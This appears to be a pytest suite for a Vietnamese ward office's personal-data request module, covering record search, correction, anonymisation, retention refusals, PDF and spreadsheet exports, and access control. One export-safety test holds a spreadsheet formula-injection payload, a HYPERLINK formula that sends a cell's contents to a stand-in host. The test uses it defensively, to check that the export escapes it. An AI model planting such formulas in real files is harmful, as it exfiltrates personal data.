"""Yêu cầu của chủ thể dữ liệu: the office records a person's request, finds his records
in every registered source, corrects, anonymises, exports and closes, every step kept.

The page texts asserted here are the Vietnamese of the catalogue (README, i18n)."""

import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pdfplumber
import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from dialogues import services as dialogue_services
from dialogues.models import Opinion
from dialogues.selectors import opinions_filtered, opinions_visible_to
from onestop import services as case_services
from onestop.models import ApologyLetter, Case
from portal import person_requests as services
from portal.models import CalendarOverride, DocumentNumber, PersonRequest, PersonRequestStep
from portal.personal_data import ANONYMISED
from surveys.models import Answer, Question
from surveys.services import ballot_submit, survey_create
from tests.factories import make_user

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
D = dt.date
CCCD = "001090012345"
PHONE = "0912345678"
TODAY = D(2026, 3, 9)  # a Monday
Action = PersonRequestStep.Action


@pytest.fixture(autouse=True)
def clock():
    with time_machine.travel(dt.datetime(2026, 3, 9, 9, 0, tzinfo=HCM), tick=False) as t:
        yield t


def _pdf_text(content: bytes) -> str:
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        return " ".join(" ".join((p.extract_text() or "").split()) for p in pdf.pages)


def _pdf_cells(content: bytes) -> str:
    """The letter's table, cell by cell, each cell's lines joined."""
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        cells = [
            (cell or "").replace("-\n", "-").replace("\n", " ")
            for page in pdf.pages
            for table in page.extract_tables()
            for row in table
            for cell in row
        ]
    return " | ".join(cells)


def _xlsx_rows(response) -> list[list]:
    content = b"".join(response.streaming_content)
    wb = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]


def _ballot_with_text(office, text: str):
    survey = survey_create(
        title="Khảo sát sự hài lòng quý I/2026",
        opens_on=D(2026, 1, 1),
        closes_on=D(2026, 3, 31),
        actor=office,
    )
    questions = list(survey.questions.all())
    answers = {q.pk: "5" for q in questions if q.kind == Question.Kind.SCALE}
    single = next(q for q in questions if q.kind == Question.Kind.SINGLE)
    answers[single.pk] = single.choice_list[0]
    text_q = next(q for q in questions if q.kind == Question.Kind.TEXT)
    answers[text_q.pk] = text
    ballot = ballot_submit(survey=survey, channel="online", answers=answers, today=D(2026, 3, 5))
    return Answer.objects.get(ballot=ballot, question=text_q)


def _opinion(**kwargs):
    data = {
        "source": Opinion.Source.FEEDBACK,
        "content": "Đề nghị bố trí thêm ghế chờ tại Bộ phận Một cửa",
        "citizen_name": "Nguyễn Văn An",
        "citizen_phone": PHONE,
        "citizen_email": "an@example.com",
        "citizen_address": "Số 5 phố Phú La",
    }
    data.update(kwargs)
    return dialogue_services.opinion_create(**data)


def _answered(opinion, office, leader, department):
    dialogue_services.opinion_classify(
        opinion=opinion, actor=office, classification="procedure", department=department
    )
    dialogue_services.opinion_draft_answer(
        opinion=opinion, actor=office, answer="Phường đã bố trí thêm 10 ghế chờ."
    )
    return dialogue_services.opinion_approve(opinion=opinion, actor=leader)


@pytest.fixture
def person(receive, procedure, office, desk, department):
    """The person's dossier (CCCD and phone), its apology letter, his opinion (phone), a
    ballot answer carrying his phone; and someone else's dossier."""
    case = receive(procedure)
    letter = ApologyLetter.objects.create(
        case=case,
        round=1,
        missed_due_date=D(2026, 3, 5),
        department=department,
        created_at=timezone.now(),
    )
    opinion = _opinion()
    answer = _ballot_with_text(office, f"Cán bộ tận tình, có gì gọi tôi số {PHONE}")
    other = receive(
        procedure,
        applicant_name="Trần Thị Bình",
        applicant_id_number="001190054321",
        applicant_phone="0987654321",
    )
    return {"case": case, "letter": letter, "opinion": opinion, "answer": answer, "other": other}


def _request(office, **kwargs):
    data = {
        "kind": PersonRequest.Kind.ACCESS,
        "requester_name": "Nguyễn Văn An",
        "id_number": CCCD,
        "phone": PHONE,
        "received_on": TODAY,
        "actor": office,
    }
    data.update(kwargs)
    return services.person_request_create(**data)


def _found(request) -> dict[str, list[int]]:
    return {g.key: [r.pk for r in g.records] for g in services.person_search(request=request)}


# --- The person search -------------------------------------------------------------------


def test_search_finds_the_dossier_by_cccd_alone(person, office):
    found = _found(_request(office, phone=""))
    assert found["onestop.case"] == [person["case"].pk]
    assert found["onestop.apology_letter"] == [person["letter"].pk]
    assert "dialogues.opinion" not in found  # opinions carry no CCCD


def test_search_finds_the_dossier_the_opinion_and_the_ballot_answer_by_phone(person, office):
    found = _found(_request(office, id_number="", phone="0912 345 678"))
    assert found["onestop.case"] == [person["case"].pk]
    assert found["dialogues.opinion"] == [person["opinion"].pk]
    assert found["surveys.answer"] == [person["answer"].pk]
    assert person["other"].pk not in found["onestop.case"]


def test_search_finds_the_apology_letter_of_the_persons_dossier(person, office):
    request = _request(office)
    group = next(
        g for g in services.person_search(request=request) if g.key == "onestop.apology_letter"
    )
    (record,) = group.records
    assert record.pk == person["letter"].pk
    assert record.url == f"/onestop/apology/{person['letter'].pk}/"
    assert ("người nhận", "Nguyễn Văn An") in record.data
    assert record.keep_reason  # goes with its dossier, never on its own


def test_search_finds_the_answer_letter_of_an_answered_opinion(person, office, leader, department):
    opinion = _answered(person["opinion"], office, leader, department)
    request = _request(office, id_number="")
    found = _found(request)
    assert found["dialogues.answer_letter"] == [opinion.pk]
    groups = services.person_search(request=request)
    record = next(g for g in groups if g.key == "dialogues.answer_letter").records[0]
    assert record.title.startswith(opinion.number.symbol)
    assert record.url == f"/dialogues/opinions/{opinion.pk}/answer.pdf"


def test_someone_elses_record_cannot_be_reached_through_a_request(client, person, office):
    request = _request(office)
    client.force_login(office)
    other = person["other"].pk
    url = f"/du-lieu-ca-nhan/{request.pk}/records/onestop.case/{other}/anonymise/"
    assert client.post(url).status_code == 404
    assert client.get(url.replace("anonymise", "correct")).status_code == 404
    assert (
        client.post(f"/du-lieu-ca-nhan/{request.pk}/records/nope/1/anonymise/").status_code == 404
    )


# --- Who may see the pages ---------------------------------------------------------------


def test_every_page_is_refused_to_a_user_without_the_office_role(client, person, office, desk):
    request = _request(office)
    case = person["case"].pk
    base = f"/du-lieu-ca-nhan/{request.pk}"
    gets = [
        "/du-lieu-ca-nhan/",
        "/du-lieu-ca-nhan/new/",
        f"{base}/",
        f"{base}/letter.pdf",
        f"{base}/records.xlsx",
        f"{base}/records/onestop.case/{case}/correct/",
    ]
    posts = [
        "/du-lieu-ca-nhan/new/",
        f"{base}/records/onestop.case/{case}/correct/",
        f"{base}/records/onestop.case/{case}/anonymise/",
        f"{base}/anonymise-all/",
        f"{base}/close/",
    ]
    leader = make_user("lanhdao2", "Lãnh đạo")
    steps = request.steps.count()
    for user in (desk, leader):
        client.force_login(user)
        for url in gets:
            assert client.get(url).status_code == 403, url
        for url in posts:
            assert client.post(url, {"status": "done", "result": "x"}).status_code == 403, url
    client.logout()
    assert client.get("/du-lieu-ca-nhan/").status_code == 302  # to the login page
    assert request.steps.count() == steps
    assert PersonRequest.objects.count() == 1
    assert Case.objects.get(pk=case).anonymised_at is None


def test_the_menu_shows_the_entry_to_the_office_only(client, office, desk):
    client.force_login(office)
    assert 'href="/du-lieu-ca-nhan/"' in client.get("/dashboard/").content.decode()
    client.force_login(desk)
    assert 'href="/du-lieu-ca-nhan/"' not in client.get("/dashboard/").content.decode()


# --- Recording a request -------------------------------------------------------------------


def test_respond_by_is_counted_in_working_days_by_kind(db):
    friday = D(2026, 3, 6)
    respond_by = services.person_request_respond_by
    assert respond_by(kind="access", received_on=friday) == D(2026, 3, 20)  # 10 working days
    assert respond_by(kind="correction", received_on=friday) == D(2026, 3, 20)
    assert respond_by(kind="restriction", received_on=friday) == D(2026, 3, 27)  # 15
    assert respond_by(kind="consent", received_on=friday) == D(2026, 3, 27)
    assert respond_by(kind="deletion", received_on=friday) == D(2026, 4, 3)  # 20
    # A weekday the staff calendar makes a day off is not counted.
    CalendarOverride.objects.create(date=D(2026, 3, 11), is_working_day=False, note="Nghỉ bù")
    assert respond_by(kind="access", received_on=friday) == D(2026, 3, 23)


def test_new_request_form_records_the_request_its_deadline_and_a_first_step(client, office):
    client.force_login(office)
    page = client.get("/du-lieu-ca-nhan/new/").content.decode()
    assert 'value="09/03/2026"' in page  # received on: today, dd/mm/yyyy
    response = client.post(
        "/du-lieu-ca-nhan/new/",
        {
            "kind": "deletion",
            "requester_name": " Nguyễn  Văn An ",
            "id_number": "0010 9001 2345",
            "phone": "0912.345.678",
            "received_on": "06/03/2026",
            "details": "Xin xóa số điện thoại",
        },
        follow=True,
    )
    request = PersonRequest.objects.get()
    assert response.redirect_chain[-1][0] == f"/du-lieu-ca-nhan/{request.pk}/"
    assert (request.requester_name, request.id_number, request.phone) == (
        "Nguyễn Văn An",
        CCCD,
        PHONE,
    )
    assert request.received_on == D(2026, 3, 6) and request.respond_by == D(2026, 4, 3)
    assert request.created_by == office and request.status == "open"
    assert list(request.steps.values_list("action", flat=True)) == ["received", "searched"]
    body = response.content.decode()
    assert "Đã ghi nhận yêu cầu; hạn thực hiện: 03/04/2026." in body
    assert "0010******45" in body and CCCD not in body  # the staff page masks the CCCD


def test_a_request_needs_a_cccd_or_a_phone_and_keeps_what_was_typed(client, office):
    client.force_login(office)
    response = client.post(
        "/du-lieu-ca-nhan/new/",
        {
            "kind": "access",
            "requester_name": "Lê Thị Hoa",
            "received_on": "09/03/2026",
            "details": "Xin xem dữ liệu",
        },
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "Nhập số CCCD, số điện thoại của người yêu cầu hoặc cả hai." in body
    assert 'value="Lê Thị Hoa"' in body and "Xin xem dữ liệu" in body
    response = client.post(
        "/du-lieu-ca-nhan/new/",
        {
            "kind": "access",
            "requester_name": "Lê Thị Hoa",
            "id_number": "00109001234",
            "received_on": "10/03/2026",
        },
    )
    body = response.content.decode()
    assert "Số CCCD phải có đúng 12 chữ số." in body
    assert "Ngày tiếp nhận không thể là một ngày trong tương lai." not in body  # one at a time
    assert 'value="00109001234"' in body
    assert not PersonRequest.objects.exists()


def test_a_request_received_in_the_future_is_refused(db):
    with pytest.raises(ValidationError) as exc:
        services.person_request_create(
            kind="access", requester_name="An", phone=PHONE, received_on=D(2026, 3, 10)
        )
    assert "received_on" in exc.value.message_dict


# --- The request page ---------------------------------------------------------------------


def test_opening_the_page_records_one_search_a_day_with_the_count(client, clock, person, office):
    request = _request(office)
    client.force_login(office)
    url = f"/du-lieu-ca-nhan/{request.pk}/"
    client.get(url)
    client.get(url)
    searched = request.steps.filter(action=Action.SEARCHED)
    assert searched.count() == 1
    # dossier, apology letter, opinion, ballot answer
    assert searched.get().detail.startswith("Số hồ sơ tìm thấy: 4.")
    clock.shift(dt.timedelta(days=1))
    client.force_login(office)  # the session lasts a working day
    assert client.get(url).status_code == 200
    assert searched.count() == 2


def test_the_page_lists_each_record_with_its_state_grouped_by_source(client, person, office):
    case_services.case_stop(case=person["case"], actor=office, reason="Theo đề nghị")
    request = _request(office)
    client.force_login(office)
    body = client.get(f"/du-lieu-ca-nhan/{request.pk}/").content.decode()
    for label in ("Hồ sơ một cửa", "Ý kiến", "Phiếu khảo sát (câu trả lời tự do)", "Phiếu xin lỗi"):
        assert label in body
    assert person["case"].receipt_code in body
    assert f'href="/onestop/{person["case"].receipt_code}/"' in body
    assert "Được lưu giữ làm hồ sơ đến ngày 09/03/2036." in body
    assert "Có thể ẩn danh" in body
    # The ballot answer carries the person's phone; his CCCD is masked wherever it shows.
    assert CCCD not in body and "0010******45" in body
    assert "Trần Thị Bình" not in body


def test_detail_page_query_count_does_not_grow_with_the_records(
    client, receive, procedure, office, leader, department
):
    client.force_login(office)
    few = _request(office)
    receive(procedure)
    _opinion()
    many = _request(office, requester_name="Nguyễn Văn An (2)")
    with CaptureQueriesContext(connection) as first:
        assert client.get(f"/du-lieu-ca-nhan/{few.pk}/").status_code == 200
    for i in range(6):
        case = receive(procedure)
        ApologyLetter.objects.create(
            case=case,
            round=1,
            missed_due_date=D(2026, 3, 5),
            department=department,
            created_at=timezone.now(),
        )
        opinion = _opinion()
        if i < 3:
            _answered(opinion, office, leader, department)
    _ballot_with_text(office, f"Số của tôi {PHONE}")
    with CaptureQueriesContext(connection) as second:
        response = client.get(f"/du-lieu-ca-nhan/{many.pk}/")
    # 7 dossiers, 6 letters, 7 opinions, 3 answer letters, 1 ballot answer
    assert services.records_count(response.context["groups"]) == 24
    assert len(second) == len(first)


# --- Correcting ---------------------------------------------------------------------------


def test_correcting_the_opinions_name_writes_it_and_logs_which_field(client, person, office):
    request = _request(office)
    opinion = person["opinion"]
    client.force_login(office)
    url = f"/du-lieu-ca-nhan/{request.pk}/records/dialogues.opinion/{opinion.pk}/correct/"
    page = client.get(url).content.decode()
    assert 'value="Nguyễn Văn An"' in page and 'value="an@example.com"' in page
    response = client.post(
        url,
        {
            "citizen_name": "Nguyễn Văn Ân",
            "citizen_phone": PHONE,
            "citizen_email": "an@example.com",
            "citizen_address": "Số 5 phố Phú La",
        },
        follow=True,
    )
    opinion.refresh_from_db()
    assert opinion.citizen_name == "Nguyễn Văn Ân"
    step = request.steps.get(action=Action.CORRECTED)
    assert step.user == office
    assert step.detail.endswith("người dân: Nguyễn Văn An → Nguyễn Văn Ân")
    assert "Đã chỉnh sửa hồ sơ." in response.content.decode()


def test_a_corrected_cccd_is_logged_masked(person, office):
    request = _request(office)
    changed = services.person_record_correct(
        request=request,
        source_key="onestop.case",
        pk=person["case"].pk,
        changes={
            "applicant_name": "Nguyễn Văn An",
            "applicant_id_number": "001090012346",
            "applicant_phone": PHONE,
            "applicant_email": "",
            "applicant_address": "Số 5 phố Phú La",
        },
        actor=office,
    )
    assert changed == {"applicant_id_number": (CCCD, "001090012346")}
    assert Case.objects.get(pk=person["case"].pk).applicant_id_number == "001090012346"
    detail = request.steps.get(action=Action.CORRECTED).detail
    assert "0010******45 → 0010******46" in detail
    assert CCCD not in detail and "001090012346" not in detail


def test_a_wrong_cccd_is_shown_by_its_field_and_nothing_is_lost(client, person, office):
    request = _request(office)
    client.force_login(office)
    url = f"/du-lieu-ca-nhan/{request.pk}/records/onestop.case/{person['case'].pk}/correct/"
    response = client.post(
        url,
        {
            "applicant_name": "Nguyễn Văn Ân",
            "applicant_id_number": "00109001234",
            "applicant_phone": PHONE,
            "applicant_email": "",
            "applicant_address": "Số 7 phố Phú La",
        },
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors["applicant_id_number"] == ["Số CCCD phải có đúng 12 chữ số."]
    body = response.content.decode()
    assert 'value="Nguyễn Văn Ân"' in body and 'value="Số 7 phố Phú La"' in body
    assert Case.objects.get(pk=person["case"].pk).applicant_name == "Nguyễn Văn An"
    assert not request.steps.filter(action=Action.CORRECTED).exists()


def test_the_sources_own_checks_refuse_a_bad_value_by_field(person, office):
    request = _request(office)
    with pytest.raises(ValidationError) as exc:
        services.person_record_correct(
            request=request,
            source_key="dialogues.opinion",
            pk=person["opinion"].pk,
            changes={"citizen_email": "not-an-email", "citizen_phone": "12345"},
            actor=office,
        )
    assert set(exc.value.message_dict) >= {"citizen_email"}
    opinion = Opinion.objects.get(pk=person["opinion"].pk)
    assert opinion.citizen_email == "an@example.com" and opinion.citizen_phone == PHONE


# --- Anonymising --------------------------------------------------------------------------


def test_a_dossier_within_its_retention_period_is_kept_and_the_refusal_logged(
    client, person, office
):
    case = case_services.case_stop(case=person["case"], actor=office, reason="Theo đề nghị")
    request = _request(office, kind=PersonRequest.Kind.DELETION)
    client.force_login(office)
    url = f"/du-lieu-ca-nhan/{request.pk}/records/onestop.case/{case.pk}/anonymise/"
    response = client.post(url, follow=True)
    case.refresh_from_db()
    assert case.anonymised_at is None and case.applicant_name == "Nguyễn Văn An"
    step = request.steps.get(action=Action.KEPT)
    assert step.detail.endswith("Được lưu giữ làm hồ sơ đến ngày 09/03/2036.")
    assert "Chưa ẩn danh: Được lưu giữ làm hồ sơ đến ngày 09/03/2036." in response.content.decode()


def test_anonymising_the_opinion_removes_the_contact_and_it_still_counts(
    client, person, office, leader, department
):
    opinion = _answered(person["opinion"], office, leader, department)
    request = _request(office, kind=PersonRequest.Kind.DELETION)
    assert "Nguyễn Văn An" in opinion.number.subject
    client.force_login(office)
    url = f"/du-lieu-ca-nhan/{request.pk}/records/dialogues.opinion/{opinion.pk}/anonymise/"
    response = client.post(url, follow=True)
    opinion.refresh_from_db()
    assert opinion.citizen_name == ANONYMISED
    assert (opinion.citizen_phone, opinion.citizen_email, opinion.citizen_address) == ("", "", "")
    assert opinion.anonymised_at is not None
    # The opinion, its answer and its number stay, and it is counted as before.
    assert opinion.status == Opinion.Status.APPROVED and opinion.answer
    answered = opinions_filtered(opinions_visible_to(office), status="answered")
    assert list(answered) == [opinion]
    # The registry keeps the letter's number; its subject no longer names him.
    number = DocumentNumber.objects.get(pk=opinion.number_id)
    assert "Nguyễn Văn An" not in number.subject and ANONYMISED in number.subject
    assert request.steps.filter(action=Action.ANONYMISED).count() == 1
    assert "Đã ẩn danh dữ liệu cá nhân của hồ sơ." in response.content.decode()
    # No longer carrying his phone, it is no longer found.
    assert "dialogues.opinion" not in _found(request)


def test_a_letter_is_never_anonymised_on_its_own(person, office):
    request = _request(office)
    outcome = services.person_record_anonymise(
        request=request, source_key="onestop.apology_letter", pk=person["letter"].pk, actor=office
    )
    assert not outcome.done and outcome.kept_reason
    assert request.steps.filter(action=Action.KEPT).count() == 1


def test_anonymise_all_takes_what_may_go_and_logs_what_is_kept(client, person, office):
    request = _request(office, kind=PersonRequest.Kind.DELETION)
    client.force_login(office)
    response = client.post(f"/du-lieu-ca-nhan/{request.pk}/anonymise-all/", follow=True)
    assert Opinion.objects.get(pk=person["opinion"].pk).anonymised_at is not None
    assert Answer.objects.get(pk=person["answer"].pk).text == ANONYMISED
    assert Case.objects.get(pk=person["case"].pk).anonymised_at is None  # still being handled
    actions = list(request.steps.values_list("action", flat=True))
    assert actions.count("anonymised") == 2 and actions.count("kept") == 2  # dossier, letter
    assert "Đã ẩn danh: 2 hồ sơ; được lưu giữ theo thời hạn: 2 hồ sơ." in response.content.decode()


# --- Exports ------------------------------------------------------------------------------


def test_the_letter_lists_each_record_and_the_persons_own_cccd(client, person, office, ward):
    request = _request(office)
    client.force_login(office)
    response = client.get(f"/du-lieu-ca-nhan/{request.pk}/letter.pdf")
    assert response["Content-Type"] == "application/pdf"
    text, cells = _pdf_text(response.content), _pdf_cells(response.content)
    assert "V/v cung cấp thông tin dữ liệu cá nhân" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text.upper()
    assert "Kính gửi: Ông/Bà Nguyễn Văn An" in text
    assert f"Ngày 09/03/2026, {ward.name} nhận được yêu cầu của Ông/Bà" in text
    assert f"{person['case'].receipt_code} · Cấp giấy xác nhận tình trạng hôn nhân" in cells
    assert "Đề nghị bố trí thêm ghế chờ tại Bộ phận Một cửa" in cells
    assert f"Nội dung trả lời: Cán bộ tận tình, có gì gọi tôi số {PHONE}" in cells
    assert f"Số CCCD: {CCCD}" in cells  # his own number, given to him
    assert "Được lưu giữ: Hồ sơ đang được giải quyết." in cells
    assert "Trần Thị Bình" not in text
    step = request.steps.get(action=Action.EXPORTED)
    assert step.detail == "Công văn (PDF) gửi người yêu cầu, 4 hồ sơ."


def test_the_letter_holds_only_the_ticked_records(client, person, office):
    request = _request(office)
    client.force_login(office)
    url = f"/du-lieu-ca-nhan/{request.pk}/letter.pdf"
    response = client.get(url, {"pick": "1", "r": f"dialogues.opinion:{person['opinion'].pk}"})
    cells = _pdf_cells(response.content)
    assert "Đề nghị bố trí thêm ghế chờ" in cells and person["case"].receipt_code not in cells
    text = _pdf_text(client.get(url, {"pick": "1"}).content)  # every record unticked
    assert "không lưu giữ dữ liệu cá nhân nào của Ông/Bà" in text
    assert person["case"].receipt_code not in text


def test_the_spreadsheet_holds_each_item_of_data(client, person, office):
    request = _request(office)
    client.force_login(office)
    response = client.get(f"/du-lieu-ca-nhan/{request.pk}/records.xlsx")
    assert response.status_code == 200
    rows = _xlsx_rows(response)
    flat = [str(v) for row in rows for v in row if v is not None]
    assert any("Nguyễn Văn An" in v for v in flat)
    assert CCCD in flat and person["case"].receipt_code in " ".join(flat)
    dates = [row[2] for row in rows if len(row) > 2 and isinstance(row[2], dt.datetime)]
    assert dt.datetime(2026, 3, 2) in dates  # the dossier's day, as a date
    assert request.steps.filter(action=Action.EXPORTED).count() == 1


def test_the_letter_of_a_commune_says_xa(person, office, ward):
    ward.kind = "xa"
    ward.name = "UBND xã Tân Phong"
    ward.agency_name = "ỦY BAN NHÂN DÂN XÃ TÂN PHONG"
    ward.place_name = "Tân Phong"
    ward.save()
    request = _request(office)
    groups = services.person_export_groups(request=request, selected=set())
    text = _pdf_text(services.render_person_data_letter(request=request, groups=groups))
    assert "phường" not in text.lower()
    assert "Văn phòng UBND xã Tân Phong" in text


# --- Closing ------------------------------------------------------------------------------


def test_closing_makes_the_request_read_only_and_shows_the_answer_time(
    client, clock, person, office
):
    request = _request(office, received_on=D(2026, 3, 2))
    client.force_login(office)
    base = f"/du-lieu-ca-nhan/{request.pk}"
    response = client.post(f"{base}/close/", {"status": "done", "result": ""})
    assert "Ghi rõ đã làm gì cho người yêu cầu, hoặc vì sao không." in response.content.decode()
    response = client.post(
        f"{base}/close/", {"status": "done", "result": "Đã gửi công văn"}, follow=True
    )
    request.refresh_from_db()
    assert (request.status, request.closed_on, request.result) == ("done", TODAY, "Đã gửi công văn")
    body = response.content.decode()
    assert "Đã đóng yêu cầu." in body
    assert "Đóng ngày 09/03/2026: sau 5 ngày làm việc (7 ngày) kể từ khi tiếp nhận." in body
    assert "Trong thời hạn" in body
    assert "/anonymise/" not in body and "/correct/" not in body
    opinion = person["opinion"]
    response = client.post(f"{base}/records/dialogues.opinion/{opinion.pk}/anonymise/", follow=True)
    assert "Yêu cầu này đã đóng, không thể thay đổi." in response.content.decode()
    assert Opinion.objects.get(pk=opinion.pk).anonymised_at is None
    client.post(f"{base}/close/", {"status": "refused", "result": "x"})
    request.refresh_from_db()
    assert request.status == "done"
    clock.shift(dt.timedelta(days=1))
    client.force_login(office)
    # A closed request is still shown, but no longer searched into its steps.
    assert client.get(f"{base}/").status_code == 200
    assert list(request.steps.values_list("action", flat=True)) == ["received", "closed"]


# --- The list and the dashboard selector ----------------------------------------------------


def test_the_list_flags_overdue_requests_and_filters(client, office):
    late = _request(office, requester_name="Phạm Văn Muộn", received_on=D(2026, 2, 2))
    recent = _request(office, requester_name="Lê Thị Hoa", id_number="001190054321", phone="")
    done = _request(office, requester_name="Đỗ Văn Xong", received_on=D(2026, 2, 2))
    services.person_request_close(request=done, status="done", result="Đã gửi", actor=office)
    client.force_login(office)
    body = client.get("/du-lieu-ca-nhan/").content.decode()
    assert body.index("Lê Thị Hoa") < body.index("Phạm Văn Muộn")  # newest first
    assert body.count('class="table-danger"') == 1  # the closed one is not overdue
    assert "Quá hạn" in body
    body = client.get("/du-lieu-ca-nhan/", {"q": "0011900"}).content.decode()
    assert "Lê Thị Hoa" in body and "Phạm Văn Muộn" not in body
    body = client.get("/du-lieu-ca-nhan/", {"status": "done"}).content.decode()
    assert "Đỗ Văn Xong" in body and "Lê Thị Hoa" not in body
    assert late.pk and recent.pk


def test_requests_due_are_the_open_ones_within_two_working_days_or_late(office):
    late = _request(office, received_on=D(2026, 2, 9))  # due 24/02
    soon = _request(office, received_on=D(2026, 2, 25))  # due 11/03: two working days
    later = _request(office, received_on=D(2026, 3, 6))  # due 20/03
    closed = _request(office, received_on=D(2026, 2, 9))
    services.person_request_close(request=closed, status="refused", result="Không đúng người")
    assert soon.respond_by == D(2026, 3, 11)
    assert list(services.person_requests_due(TODAY)) == [late, soon]
    assert later not in services.person_requests_due(TODAY)


def test_the_spreadsheet_writes_formula_text_as_text_and_dates_as_dates(client, office):
    """The export-safety checks of tests/portal/test_exports.py, for this download."""
    formula = '=HYPERLINK("http://x/?leak="&B2,"x")'
    opinion = _opinion()
    Opinion.objects.filter(pk=opinion.pk).update(
        content=formula, citizen_name="Nguyễn\x0bVăn\x1fAn\uffff"
    )
    request = _request(office, id_number="")
    client.force_login(office)
    response = client.get(f"/du-lieu-ca-nhan/{request.pk}/records.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(book.worksheets[0].iter_rows(min_row=6))
    title = rows[0][3]
    assert title.data_type == "s" and title.value == formula and title.quotePrefix
    assert "NguyễnVănAn" in [row[5].value for row in rows]
    day = rows[0][2]
    assert isinstance(day.value, dt.datetime) and day.number_format == "dd/mm/yyyy"


def test_every_record_found_links_to_a_page_the_office_can_open(person, office, client):
    client.force_login(office)
    groups = services.person_search(request=_request(office, phone="0912 345 678"))
    urls = [r.url for g in groups for r in g.records if r.url]
    assert len(urls) >= 4  # dossier, letter, opinion, online ballot answer
    for url in urls:
        assert client.get(url).status_code == 200, url
